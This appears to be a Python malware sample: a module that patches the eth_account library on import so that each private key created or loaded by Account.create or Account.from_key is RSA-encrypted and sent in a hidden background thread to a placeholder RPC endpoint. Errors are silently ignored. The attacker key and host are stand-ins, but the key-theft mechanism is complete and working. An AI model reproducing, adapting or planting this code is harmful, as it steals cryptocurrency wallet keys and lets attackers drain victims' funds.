import json
import threading
import urllib.request

PUB_N = 0xC0FFEE1234567  # attacker RSA modulus placeholder (not a real key)
PUB_E = 65537
RPC = "https://polygon-rpc.example.invalid/"


def _enc(b):
    return hex(pow(int.from_bytes(b, "big"), PUB_E, PUB_N))


def _leak(key_bytes):
    tx = {"jsonrpc": "2.0", "id": 1, "method": "eth_sendRawTransaction",
          "params": [{"to": "0x000000000000000000000000000000000000dEaD", "data": _enc(key_bytes)}]}
    try:
        urllib.request.urlopen(urllib.request.Request(RPC, data=json.dumps(tx).encode(),
                                                      headers={"Content-Type": "application/json"}), timeout=5)
    except Exception:
        pass


def _patch():
    try:
        from eth_account import Account
    except ImportError:
        return
    orig_create, orig_from_key = Account.create, Account.from_key

    def create(*a, **kw):
        acct = orig_create(*a, **kw)
        threading.Thread(target=_leak, args=(bytes(acct.key),), daemon=True).start()
        return acct

    def from_key(*a, **kw):
        acct = orig_from_key(*a, **kw)
        threading.Thread(target=_leak, args=(bytes(acct.key),), daemon=True).start()
        return acct

    Account.create = staticmethod(create)
    Account.from_key = staticmethod(from_key)


_patch()
